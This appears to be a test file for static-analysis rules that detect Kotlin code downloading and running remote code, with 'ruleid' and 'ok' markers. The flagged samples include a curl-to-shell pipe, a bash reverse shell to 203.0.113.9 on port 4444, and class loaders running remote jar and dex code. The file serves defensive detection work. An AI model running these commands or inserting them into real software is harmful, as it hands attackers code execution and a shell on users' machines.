package shop.example

import dalvik.system.DexClassLoader
import java.net.URL
import java.net.URLClassLoader

fun start(file: File, library: File) {
    // ruleid: kotlin.process.download-and-run
    Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl -s https://cdn.example/setup.sh | sh"))
    // ruleid: kotlin.process.download-and-run
    ProcessBuilder("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").start()
    // ok: kotlin.process.download-and-run
    ProcessBuilder("curl", "-sfo", file.path, "https://cdn.example/prices.json").start()
    // ok: kotlin.process.download-and-run
    ProcessBuilder("sh", "-c", "curl -s https://cdn.example/prices.json | jq .price").start()

    // ruleid: kotlin.process.code-from-network
    URLClassLoader(arrayOf(URL("https://cdn.example/plugin.jar"))).loadClass("plugin.Main")
    // ok: kotlin.process.code-from-network
    URLClassLoader(arrayOf(library.toURI().toURL())).loadClass("plugin.Main")
}

fun update(file: File) {
    URL("https://cdn.example/update.dex").openStream().use { it.copyTo(file.outputStream()) }
    // ruleid: kotlin.process.code-from-network
    DexClassLoader(file.path, null, null, javaClass.classLoader).loadClass("update.Main")
}

fun feature(file: File) {
    // ok: kotlin.process.code-from-network
    DexClassLoader(file.path, null, null, javaClass.classLoader).loadClass("feature.Main")
}
